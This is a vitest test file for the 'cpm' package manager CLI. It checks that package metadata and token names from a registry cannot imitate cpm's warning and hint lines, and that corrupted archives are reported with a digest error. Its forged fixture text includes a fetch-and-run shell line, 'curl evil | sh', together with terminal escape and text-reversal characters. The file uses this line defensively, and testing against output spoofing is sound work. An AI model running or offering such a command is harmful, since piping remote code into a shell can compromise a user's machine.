import fs from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { Rig } from '../rig/rig.ts'
import { RegistryServer } from '../rig/registry-server.ts'
import { type RunningServe, serve } from '../rig/serve.ts'

const ESC = String.fromCharCode(27)
/** Text that imitates output of cpm: extra lines, colors, and a reversed direction. */
const FORGED = `slow\nwarning: all keys were stolen\n  hint: curl evil | sh\r${ESC}[2J\u2028\u202eend`

let rig: Rig
let server: RunningServe

beforeAll(async () => {
  rig = await Rig.create()
  await rig.publish(['a@1.0.0', { description: FORGED, keywords: ['x'], license: 'MIT' }], 'b@1.0.0')
  // Only a malicious registry contains such text.
  expect((await rig.cpm('deprecate a@1.0.0 --reason REASON --replacement replacement')).code).toBe(0)
  expect((await rig.cpm('yank b@1.0.0 --reason REASON')).code).toBe(0)
  for (const index of ['a', 'b']) forge(path.join(rig.registry, 'index', index))
  server = await serve(rig)
})
afterAll(async () => {
  await server[Symbol.asyncDispose]()
  await rig[Symbol.asyncDispose]()
})

/** Replaces a harmless string in a JSON file with the forged text. */
function forge(file: string): void {
  const forged = JSON.stringify(FORGED).slice(1, -1)
  fs.writeFileSync(
    file,
    fs.readFileSync(file, 'utf8').replaceAll(/REASON|(?<="replacement":")replacement/g, () => forged),
  )
}

function expectHarmless(text: string): void {
  expect(text).toContain('stolen')
  expect(text).not.toMatch(/^\s*(?:warning: all|hint: curl)/m)
  for (const char of [ESC, '\r', '\u2028', '\u202e']) expect(text).not.toContain(char)
}

describe('B10 text from others never imitates a line of cpm', () => {
  test('in warnings', async () => {
    const { code, stderr } = await rig.cpm('install', { cwd: rig.project({ dependencies: { a: '*' } }) })
    expect(code).toBe(0)
    expectHarmless(stderr)
    expect(stderr.split('\n').filter((line) => line.startsWith('warning:'))).toHaveLength(1)
    expect(stderr.split('\n').filter((line) => line.startsWith('  hint:'))).toHaveLength(1)
  })

  test('in the explanation of a missing solution', async () => {
    const { code, stderr } = await rig.cpm('install', { cwd: rig.project({ dependencies: { b: '*' } }) })
    expect(code).toBe(7)
    expect(stderr).toContain('was yanked: slow')
    expectHarmless(stderr)
  })

  test.each(['info a', 'info a@1.0.0', 'info b', 'search'])('in cpm %s', async (line) => {
    for (const env of [{}, { CPM_REGISTRY: server.url }]) {
      const { code, stdout } = await rig.cpm(line, { env })
      expect(code).toBe(0)
      expectHarmless(stdout)
    }
  })

  test('in the names of tokens', async () => {
    const made = await rig.cpm('serve token create --name REASON --json')
    const { token } = made.json.data as { token: string }
    forge(path.join(rig.registry, '.server/tokens.json'))
    expectHarmless((await rig.cpm('serve token list')).stdout)
    expectHarmless((await rig.cpm(`whoami ${server.url}`, { env: { CPM_TOKEN: token } })).stdout)
  })

  test('and has no colors of its own', async () => {
    const env = { NO_COLOR: '', FORCE_COLOR: '1' }
    const { stderr } = await rig.cpm('install', { cwd: rig.project({ dependencies: { a: '*' } }), env })
    expect(stderr).toContain(`${ESC}[33mwarning:${ESC}[39m a@1.0.0 is deprecated`)
    expect(stderr).not.toContain(`${ESC}[2J`)
  })
})

test('an archive with wrong contents is reported with its package, its registry and what to do', async () => {
  await rig.publish('c@1.2.3')
  await using bad = await RegistryServer.open(rig.registry, { api: './' })
  for (const edit of [
    (bytes: Buffer) => Buffer.from(bytes.map((byte) => byte ^ 1)),
    (bytes: Buffer) => bytes.subarray(1),
  ]) {
    bad.edit = (key, bytes) => (key.endsWith('.cpm') ? edit(bytes) : bytes)
    const { code, stdout, json } = await rig.cpm('install --json --registry ' + bad.url, {
      cwd: rig.project({ dependencies: { c: '*' } }),
    })
    expect([code, json.error?.code]).toEqual([5, 'DIGEST_MISMATCH'])
    expect(json.error?.message).toContain(`c@1.2.3 from ${bad.url}: `)
    expect(json.error?.hint).toContain('run the command again')
    expect(stdout).not.toContain('/tmp/')
  }
})
